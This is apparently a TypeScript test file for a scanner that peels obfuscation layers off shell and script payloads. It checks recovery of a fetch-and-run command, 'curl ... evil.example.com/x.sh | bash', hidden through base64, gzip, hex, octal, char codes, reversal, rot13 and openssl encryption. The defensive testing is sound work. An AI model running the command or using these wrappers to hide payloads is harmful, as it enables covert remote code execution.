import { deepEqual, equal, ok } from 'node:assert/strict'
import { createCipheriv, createHash, pbkdf2Sync } from 'node:crypto'
import { test } from 'node:test'
import { deflateSync, gzipSync } from 'node:zlib'
import { uncover } from '../../src/scripts/layers.ts'
import { SCRIPT_LIMITS } from '../../src/scripts/limits.ts'

const HIDDEN = 'curl -s https://evil.example.com/x.sh | bash'
const base64 = (bytes: Uint8Array | string) => Buffer.from(bytes).toString('base64')
const hex = Buffer.from(HIDDEN).toString('hex')
const codes = [...HIDDEN].map((letter) => letter.charCodeAt(0))
const rot13 = HIDDEN.replaceAll(/[a-z]/gi, (letter) => {
  const base = letter < 'a' ? 65 : 97
  return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base)
})
const reversed = [...HIDDEN].toReversed().join('')
const SALT = Buffer.from('12345678')

function encrypted(key: Buffer, iv: Buffer, head = Buffer.concat([Buffer.from('Salted__'), SALT])) {
  const cipher = createCipheriv('aes-256-cbc', key, iv)
  return base64(Buffer.concat([head, cipher.update(HIDDEN), cipher.final()]))
}

/** One round of digests over the one before, the password and the salt. */
function oldKeys(password: string, digest: string, salt = SALT) {
  let last = Buffer.alloc(0)
  let bytes = Buffer.alloc(0)
  while (bytes.length < 48) {
    last = createHash(digest).update(last).update(password).update(salt).digest()
    bytes = Buffer.concat([bytes, last])
  }
  return [bytes.subarray(0, 32), bytes.subarray(32, 48)] as const
}
const [KEY, IV] = oldKeys('sesame', 'sha256')
const [BARE_KEY, BARE_IV] = oldKeys('sesame', 'md5', Buffer.alloc(0))
const derived = pbkdf2Sync('sesame', SALT, 1_000, 48, 'sha256')

const cases = [
  { name: 'Base64', text: `echo ${base64(HIDDEN)} | base64 -D | sh` },
  {
    name: 'Base64 in lines',
    text: `base64 -d <<X | sh\n${base64(HIDDEN.repeat(3)).replaceAll(/.{40}/g, '$&\n')}\nX`,
    want: HIDDEN.repeat(3),
  },
  {
    name: 'Base64 for addresses',
    text: `"${Buffer.from(`${HIDDEN}>>>???`).toString('base64url')}"`,
    want: `${HIDDEN}>>>???`,
  },
  { name: 'gzip in Base64', text: `echo "${base64(gzipSync(HIDDEN))}" | base64 -d | gunzip` },
  {
    name: 'zlib in Base64',
    text: `exec(zlib.decompress(b64decode("${base64(deflateSync(HIDDEN))}")))`,
  },
  { name: 'hexadecimal', text: `echo ${hex} | xxd -r -p` },
  {
    name: 'escapes',
    text: `printf '${hex.replaceAll(/../g, '\\x$&')}'`,
    want: `printf '${HIDDEN}'`,
  },
  {
    name: 'octal escapes',
    text: `$'${codes.map((code) => `\\${code.toString(8).padStart(3, '0')}`).join('')}'`,
    want: `$'${HIDDEN}'`,
  },
  { name: 'codes of JavaScript', text: `eval(String.fromCharCode(${codes.join(', ')}))` },
  { name: 'codes of Python', text: `exec(${codes.map((code) => `chr(${code})`).join('+')})` },
  {
    name: 'codes of AppleScript',
    text: `do shell script (${codes.map((code) => `(ASCII character ${code})`).join(' & ')})`,
  },
  { name: 'ids of AppleScript', text: `do shell script character id {${codes.join(', ')}}` },
  { name: 'reversed', text: `echo '${reversed}' | rev | sh` },
  { name: 'reversed by Python', text: `exec("${reversed}"[::-1])` },
  { name: 'letters exchanged', text: `echo '${rot13}' | tr 'A-Za-z' 'N-ZA-Mn-za-m'` },
  { name: 'variables', text: `a="cu"\nb=rl\n$a\${b} -s x`, want: 'a="cu"\nb=rl\ncurl -s x' },
  { name: 'pieces', text: `"cu" & "rl -s " & "x"`, want: '"curl -s x"' },
  {
    name: 'openssl with a password',
    text: `echo "${encrypted(KEY, IV)}" | openssl enc -aes-256-cbc -d -a -k sesame`,
  },
  {
    name: 'openssl with a variable',
    text: `p='sesame'\necho '${encrypted(KEY, IV)}' | openssl enc -d -aes256 -base64 -pass pass:$p`,
  },
  {
    name: 'openssl without salt',
    text: `echo '${encrypted(BARE_KEY, BARE_IV, Buffer.alloc(0))}' | openssl enc -base64 -d -aes-256-cbc -nosalt -md md5 -pass pass:sesame`,
  },
  {
    name: 'openssl with rounds',
    text: `echo '${encrypted(derived.subarray(0, 32), derived.subarray(32))}' | openssl enc -aes-256-cbc -d -a -pbkdf2 -iter 1000 -k sesame`,
  },
  {
    name: 'openssl with key and vector',
    text: `echo '${encrypted(KEY, IV, Buffer.alloc(0))}' | openssl enc -aes-256-cbc -d -a -K ${KEY.toString('hex')} -iv ${IV.toString('hex')}`,
  },
]
for (const { name, text, want = HIDDEN } of cases) {
  test(`layers: uncovers ${name}`, () => {
    const { layers, isCut } = uncover(text, SCRIPT_LIMITS)
    const texts = layers.map((layer) => layer.text)
    ok(texts.includes(want), JSON.stringify(texts.slice(1)))
    equal(isCut, false)
  })
}

test('layers: one in the other, each knowing where it was', () => {
  const inner = `echo ${base64(HIDDEN)} | base64 -D | sh`
  const { layers } = uncover(`eval "$(echo ${base64(inner)} | base64 -D)"`, SCRIPT_LIMITS)
  const last = layers.findIndex(({ text }) => text === HIDDEN)
  const found = layers[last]
  deepEqual([found?.by, found?.depth], ['base64', 2])
  equal(layers[found?.parent ?? -1]?.text, inner)
})

test('layers: a program that was hidden is kept as it is', () => {
  const program = Buffer.concat([Buffer.from('cffaedfe', 'hex'), Buffer.alloc(40, 1)])
  const { layers } = uncover(`echo ${base64(program)} | base64 -d > x`, SCRIPT_LIMITS)
  const [, found] = layers
  deepEqual([found?.text, Buffer.from(found?.bytes ?? [])], [undefined, program])
})

test('layers: words that happen to be Base64 hide nothing', () => {
  const text = 'the ApplicationSupportDirectory and com/example/SomethingRatherLong are no secrets'
  deepEqual(uncover(text, SCRIPT_LIMITS).layers.length, 1)
})

test('layers: end at their limits and say so', () => {
  let text = HIDDEN
  for (let depth = 0; depth < 12; depth++) text = `echo ${base64(text)} | base64 -d | sh`
  const deep = uncover(text, SCRIPT_LIMITS)
  equal(deep.isCut, true)
  equal(Math.max(...deep.layers.map(({ depth }) => depth)), SCRIPT_LIMITS.depthMax)
  const many = Array.from({ length: 90 }, (_, index) => base64(`echo number ${index} of many`))
  equal(uncover(many.join('\n'), { ...SCRIPT_LIMITS, layersMax: 10 }).layers.length, 10)
  const large = uncover(base64('x'.repeat(5_000)), { ...SCRIPT_LIMITS, layerBytesMax: 1_000 })
  deepEqual([large.layers.length, large.isCut], [1, true])
})
